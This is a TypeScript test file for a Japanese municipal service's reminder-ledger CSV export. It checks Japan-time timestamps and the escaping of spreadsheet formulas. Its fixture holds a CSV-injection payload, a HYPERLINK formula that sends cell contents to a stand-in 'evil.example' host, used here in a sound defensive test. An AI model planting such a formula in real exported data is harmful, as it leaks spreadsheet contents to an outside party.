import { parse } from 'csv-parse/sync';
import type { ReminderLedgerLine } from '@pdca/projections';
import { reminderLedgerCsv } from './reminder-ledger-csv';

const line: ReminderLedgerLine = {
  sectionId: 'hoiku',
  department: 'こども家庭部',
  sectionName: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  items: 3,
  outstanding: -1,
  reminders: 2,
  sentAt: ['2023-05-24T00:00:00.000Z', '2023-05-30T00:00:00.000Z'],
  escalations: 0,
  failures: 0,
  firstLateSubmissionAt: '2023-06-02T01:30:00.000Z',
  daysLate: 2,
};
const rows = () => parse<Record<string, string>>(reminderLedgerCsv([line]), { bom: true, columns: true });

describe('reminder-ledger CSV', () => {
  it('prints times in Japan time, as the rest of the service does', () => {
    expect(rows()[0]).toMatchObject({
      督促日時: '2023-05-24 09:00 2023-05-30 09:00',
      期限後の初回提出: '2023-06-02 10:30',
    });
  });

  it('neutralises a section name that would run as a formula, and keeps numbers numbers', () => {
    expect(rows()[0]).toMatchObject({
      課: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
      未提出件数: '-1',
      対象件数: '3',
    });
  });
});
